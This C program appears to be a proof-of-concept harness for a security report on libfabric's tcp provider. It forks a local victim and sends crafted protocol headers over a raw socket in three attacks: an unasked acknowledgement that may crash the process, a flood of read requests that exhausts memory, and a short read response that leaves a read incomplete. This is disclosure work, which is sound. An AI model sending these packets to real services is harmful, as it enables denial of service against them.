/* What a host that only reaches the port can do to a program that listens with libfabric's provider `tcp`, endpoints
 * FI_EP_MSG. docs/libfabric-report.md explains it.
 *
 *     cc -o libfabric-report libfabric-report.c -lfabric && ./libfabric-report
 *
 * For each of three attacks a child process, the victim, listens at 127.0.0.1 through libfabric, accepts one connection
 * and reads its completion queue, as the manual pages say. This process, the attacker, connects with a plain socket and
 * writes bytes. It does not use libfabric. Ends with 0 when all three were tried, whatever they did.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_eq.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>

/* -- what the provider says on the wire: prov/tcp, include/ofi_proto.h -- */

struct connect_header { /* struct ofi_ctrl_hdr */
    uint8_t version, type;
    uint16_t seg_size;
    uint32_t seg_no;
    uint64_t conn_id, msg_id, conn_data;
};
enum { CONNECT_VERSION = 3, CONNECT_REQUEST = 0 }; /* ofi_ctrl_connreq */

struct header { /* struct tcpx_base_hdr, later xnet_base_hdr */
    uint8_t version, op;
    uint16_t flags;
    uint8_t op_data, rma_iov_cnt, hdr_size, id;
    uint64_t size;
};
enum { HEADER_VERSION = 3, OP_MSG = 0, OP_READ_REQUEST = 2, OP_READ_RESPONSE = 3, OP_DATA_ACK = 2 };

enum { READ_BYTES = 4096, ANSWERED_BYTES = 1, OLD_BYTE = 0x5a, NEW_BYTE = 0x11 };
enum { REQUESTS = 1000000, REQUESTS_AT_ONCE = 20000, ENOUGH_KIB = 256 << 10 };

/* -- both -- */

static void require(int holds, const char *what) {
    if (holds) return;
    fprintf(stderr, "libfabric-report: %s failed\n", what);
    exit(2);
}

static void write_all(int fd, const void *bytes, size_t count, const char *what) {
    const char *at = bytes;
    while (count > 0) {
        const ssize_t written = send(fd, at, count, MSG_NOSIGNAL);
        require(written > 0, what);
        at += written;
        count -= (size_t)written;
    }
}

static void read_all(int fd, void *bytes, size_t count, const char *what) {
    char *at = bytes;
    while (count > 0) {
        const ssize_t got = read(fd, at, count);
        require(got > 0, what);
        at += got;
        count -= (size_t)got;
    }
}

/* -- the victim -- */

struct victim {
    struct fid_fabric *fabric;
    struct fid_eq *events;
    struct fid_domain *domain;
    struct fid_cq *completions;
    struct fid_ep *endpoint;
};

static void wait_for_event(struct fid_eq *queue, uint32_t wanted, struct fi_eq_cm_entry *entry) {
    uint32_t kind = 0;
    const ssize_t size = fi_eq_sread(queue, &kind, entry, sizeof *entry, 10000, 0);
    require(size >= (ssize_t)sizeof *entry && kind == wanted, "an event of the connection");
}

/* Listens, tells the port, and accepts one connection. */
static void listen_and_accept(struct victim *v, int tell) {
    struct fi_info *hints = fi_allocinfo(), *info = NULL;
    hints->caps = FI_MSG | FI_RMA;
    hints->ep_attr->type = FI_EP_MSG;
    hints->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    hints->addr_format = FI_SOCKADDR_IN;
    hints->fabric_attr->prov_name = strdup("tcp");
    require(fi_getinfo(FI_VERSION(1, 17), "127.0.0.1", "0", FI_SOURCE, hints, &info) == 0, "fi_getinfo");
    signal(SIGSEGV, SIG_DFL); /* Libraries for Omni-Path, where they are installed, print a backtrace. */
    require(fi_fabric(info->fabric_attr, &v->fabric, NULL) == 0, "fi_fabric");
    struct fi_eq_attr event_attributes = {.wait_obj = FI_WAIT_UNSPEC};
    require(fi_eq_open(v->fabric, &event_attributes, &v->events, NULL) == 0, "fi_eq_open");
    struct fid_pep *listening = NULL;
    require(fi_passive_ep(v->fabric, info, &listening, NULL) == 0, "fi_passive_ep");
    require(fi_pep_bind(listening, &v->events->fid, 0) == 0, "fi_pep_bind");
    require(fi_listen(listening) == 0, "fi_listen");
    struct sockaddr_in address;
    size_t size = sizeof address;
    require(fi_getname(&listening->fid, &address, &size) == 0, "fi_getname");
    require(write(tell, &address.sin_port, sizeof address.sin_port) > 0, "telling the port");

    struct fi_eq_cm_entry entry;
    wait_for_event(v->events, FI_CONNREQ, &entry);
    require(fi_domain(v->fabric, entry.info, &v->domain, NULL) == 0, "fi_domain");
    struct fi_cq_attr completion_attributes = {.format = FI_CQ_FORMAT_MSG, .size = 64};
    require(fi_cq_open(v->domain, &completion_attributes, &v->completions, NULL) == 0, "fi_cq_open");
    require(fi_endpoint(v->domain, entry.info, &v->endpoint, NULL) == 0, "fi_endpoint");
    require(fi_ep_bind(v->endpoint, &v->events->fid, 0) == 0, "binding the event queue");
    require(fi_ep_bind(v->endpoint, &v->completions->fid, FI_TRANSMIT | FI_RECV) == 0, "binding the completion queue");
    require(fi_enable(v->endpoint) == 0, "fi_enable");
    require(fi_accept(v->endpoint, NULL, 0) == 0, "fi_accept");
    wait_for_event(v->events, FI_CONNECTED, &entry);
}

/* Makes progress until `tell` can be read from: the attacker has closed its end. */
static void read_completions(const struct victim *v, int tell) {
    struct pollfd closed = {.fd = tell, .events = POLLIN};
    struct fi_cq_msg_entry entry;
    do {
        for (int i = 0; i < 1000; ++i) (void)!fi_cq_read(v->completions, &entry, 1);
    } while (poll(&closed, 1, 0) == 0);
}

static void be_idle(int tell) {
    struct victim v;
    listen_and_accept(&v, tell);
    read_completions(&v, tell);
}

/* Reads from the memory of its peer, and says how that ended and what its own memory holds then. */
static void read_from_peer(int tell) {
    struct victim v;
    listen_and_accept(&v, tell);
    static unsigned char memory[READ_BYTES];
    memset(memory, OLD_BYTE, sizeof memory);
    struct fid_mr *registered = NULL;
    require(fi_mr_reg(v.domain, memory, sizeof memory, FI_READ, 0, 1, 0, &registered, NULL) == 0, "fi_mr_reg");
    require(fi_read(v.endpoint, memory, sizeof memory, fi_mr_desc(registered), 0, 0x1000, 7, NULL) == 0, "fi_read");

    struct pollfd closed = {.fd = tell, .events = POLLIN};
    struct fi_cq_msg_entry entry;
    ssize_t count = -FI_EAGAIN;
    while (count == -FI_EAGAIN && poll(&closed, 1, 0) == 0) count = fi_cq_read(v.completions, &entry, 1);
    size_t old = 0;
    for (size_t i = 0; i < sizeof memory; ++i) old += memory[i] == OLD_BYTE;
    uint32_t answer[2] = {count == 1, (uint32_t)old};
    require(write(tell, answer, sizeof answer) == sizeof answer, "telling the result");
    read_completions(&v, tell);
}

/* -- the attacker -- */

struct attack {
    pid_t victim;
    int told;    /* What the victim tells. */
    int socket;  /* Connected to the victim. */
};

static struct attack begin(void (*victim)(int tell)) {
    int ends[2];
    require(socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0, "socketpair");
    fflush(stdout);
    struct attack made = {.victim = fork(), .told = ends[0]};
    require(made.victim >= 0, "fork");
    if (made.victim == 0) {
        const struct rlimit none = {0, 0}, memory = {(rlim_t)4 << 30, (rlim_t)4 << 30};
        setrlimit(RLIMIT_CORE, &none);
        setrlimit(RLIMIT_AS, &memory);
        close(ends[0]);
        victim(ends[1]);
        _exit(0);
    }
    close(ends[1]);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    read_all(made.told, &address.sin_port, sizeof address.sin_port, "reading the port");
    made.socket = socket(AF_INET, SOCK_STREAM, 0);
    require(connect(made.socket, (const struct sockaddr *)&address, sizeof address) == 0, "connect");
    struct connect_header hello = {.version = CONNECT_VERSION, .type = CONNECT_REQUEST, .conn_data = 1};
    write_all(made.socket, &hello, sizeof hello, "asking for a connection");
    read_all(made.socket, &hello, sizeof hello, "reading the answer");
    return made;
}

/* Hangs up, and returns how the victim ended. */
static int end(struct attack *attack) {
    close(attack->socket);
    shutdown(attack->told, SHUT_WR);
    int status = 0;
    require(waitpid(attack->victim, &status, 0) == attack->victim, "waitpid");
    close(attack->told);
    return status;
}

static long resident_kib(pid_t process) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", (int)process);
    FILE *file = fopen(path, "r");
    long kib = 0;
    while (file != NULL && fgets(line, sizeof line, file) != NULL) sscanf(line, "VmRSS: %ld", &kib);
    if (file != NULL) fclose(file);
    return kib;
}

static void unasked_acknowledgement(void) {
    struct attack attack = begin(be_idle);
    const struct header ack = {.version = HEADER_VERSION, .op = OP_MSG, .op_data = OP_DATA_ACK,
                               .hdr_size = sizeof ack, .size = sizeof ack};
    write_all(attack.socket, &ack, sizeof ack, "acknowledging");
    char byte;
    (void)!read(attack.socket, &byte, 1); /* Until the victim has hung up, or ended. */
    const int status = end(&attack);
    if (WIFSIGNALED(status)) {
        printf("acknowledgement: %zu bytes, and the victim was ended by signal %d (%s)\n", sizeof ack,
               WTERMSIG(status), strsignal(WTERMSIG(status)));
    } else {
        printf("acknowledgement: the victim closed the connection\n");
    }
}

/* When it has not changed for 0.15 s: the victim has read what was sent. */
static long settled_kib(pid_t process) {
    long kib = resident_kib(process);
    for (int same = 0; same < 3;) {
        poll(NULL, 0, 50);
        const long now = resident_kib(process);
        same = now == kib ? same + 1 : 0;
        kib = now;
    }
    return kib;
}

/* Until the victim has grown by ENOUGH_KIB. First the sockets of both take what it answers. */
static void reads_of_nothing(void) {
    struct attack attack = begin(be_idle);
    static struct header requests[REQUESTS_AT_ONCE];
    for (int i = 0; i < REQUESTS_AT_ONCE; ++i) {
        requests[i] = (struct header){.version = HEADER_VERSION, .op = OP_READ_REQUEST,
                                      .hdr_size = sizeof requests[i], .size = sizeof requests[i]};
    }
    const long before = settled_kib(attack.victim);
    long more = 0, last = 0, printed = 0;
    for (int sent = REQUESTS_AT_ONCE; sent <= REQUESTS && more < ENOUGH_KIB; sent += REQUESTS_AT_ONCE) {
        write_all(attack.socket, requests, sizeof requests, "asking for nothing");
        last = more;
        more = settled_kib(attack.victim) - before;
        if (more - printed < ENOUGH_KIB / 4) continue;
        printed = more;
        printf("reads of nothing: %6d requests, %4zu KiB sent, no answer read: the victim has %3ld MiB more\n", sent,
               sent * sizeof requests[0] >> 10, more >> 10);
    }
    if (more >= ENOUGH_KIB) {
        printf("reads of nothing: the victim queues without a limit, %ld bytes for each request of %zu\n",
               (more - last) * 1024 / REQUESTS_AT_ONCE, sizeof requests[0]);
    } else {
        printf("reads of nothing: after %d requests the victim has %ld MiB more\n", REQUESTS, more >> 10);
    }
    kill(attack.victim, SIGKILL); /* It would first free what it has queued. */
    end(&attack);
}

static void short_response(void) {
    struct attack attack = begin(read_from_peer);
    struct header request;
    char iov[24]; /* struct ofi_rma_iov: the address, length and key that the victim asks for. */
    read_all(attack.socket, &request, sizeof request, "reading the request");
    read_all(attack.socket, iov, sizeof iov, "reading the request's place");
    require(request.op == OP_READ_REQUEST, "waiting for a read request");
    struct {
        struct header header;
        unsigned char data[ANSWERED_BYTES];
    } response = {.header = {.version = HEADER_VERSION, .op = OP_READ_RESPONSE, .hdr_size = sizeof(struct header),
                             .size = sizeof(struct header) + ANSWERED_BYTES},
                  .data = {NEW_BYTE}};
    write_all(attack.socket, &response, sizeof(struct header) + ANSWERED_BYTES, "answering");
    struct pollfd answered = {.fd = attack.told, .events = POLLIN};
    if (poll(&answered, 1, 10000) == 1) {
        uint32_t result[2];
        read_all(attack.told, result, sizeof result, "reading the result");
        printf("short response: asked for %d bytes, got %d; fi_read() %s, and %u bytes are the old ones\n", READ_BYTES,
               ANSWERED_BYTES, result[0] ? "succeeded" : "failed", (unsigned)result[1]);
    } else {
        printf("short response: fi_read() waits for the rest\n");
    }
    end(&attack);
}

int main(void) {
    const uint32_t version = fi_version();
    printf("libfabric %u.%u, provider tcp, FI_EP_MSG\n", FI_MAJOR(version), FI_MINOR(version));
    unasked_acknowledgement();
    reads_of_nothing();
    short_response();
    return 0;
}
